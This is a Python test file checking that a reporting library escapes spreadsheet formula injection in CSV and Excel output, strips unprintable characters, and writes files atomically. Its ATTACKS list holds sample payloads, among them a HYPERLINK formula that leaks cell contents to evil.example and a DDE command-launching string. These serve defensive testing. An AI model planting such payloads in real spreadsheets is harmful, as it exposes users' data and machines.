"""Texts of strangers do no harm in a table, and nothing half-written remains."""

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reports.cell_text import printable, write_csv
from reports.sheets import new_book
from reports.whole_file import replacing, write_text

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_csv_field_never_starts_a_formula(tmp_path: Path, attack: str) -> None:
    write_csv(tmp_path / "a.csv", [[attack, "平常"]])
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        [[field, usual]] = list(csv.reader(file))
    assert (field[0], usual) == ("'", "平常")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_workbook_cell_never_holds_a_formula(tmp_path: Path, attack: str) -> None:
    with new_book(tmp_path / "a.xlsx", title="表", created=date(2021, 2, 28)) as book:
        sheet = book.sheet("表")
        book.text(sheet, 0, 0, attack)
        book.merged(sheet, (1, 0, 1, 3), attack)
        book.table(sheet, 3, (9, 9), [["甲", "乙"], [attack, attack]])
    for address in ("A1", "A2", "A5", "B5"):
        cell = load_workbook(tmp_path / "a.xlsx").active[address]
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", printable(attack), True)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("标题\x1b[31m红\x00", "标题 [31m红 "),
        ("倒\u202e序", "倒 序"),
        ("半个\ud83d字", "半个 字"),
        ("两行\n文字", "两行\n文字"),
        ("长" * 40_000, "长" * 32_766 + "…"),
    ],
)
def test_what_cannot_be_printed_is_left_out(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_half_a_character_does_not_break_a_text_file(tmp_path: Path) -> None:
    write_text(tmp_path / "a.json", "半个\ud83d字")
    assert (tmp_path / "a.json").read_text(encoding="utf-8") == "半个?字"


def test_a_failed_write_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    target = tmp_path / "out" / "annex1.csv"
    write_text(target, "旧")
    with pytest.raises(OSError, match="disk"), replacing(target) as draft:
        draft.write_text("一半", encoding="utf-8")
        raise OSError("disk full")
    assert [path.name for path in target.parent.iterdir()] == ["annex1.csv"]
    assert target.read_text(encoding="utf-8") == "旧"


def test_a_book_that_fails_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(KeyError), new_book(tmp_path / "a.xlsx", title="表", created=date(2021, 2, 28)) as book:
        book.text(book.sheet("表"), 0, 0, "甲")
        raise KeyError
    assert list(tmp_path.iterdir()) == []
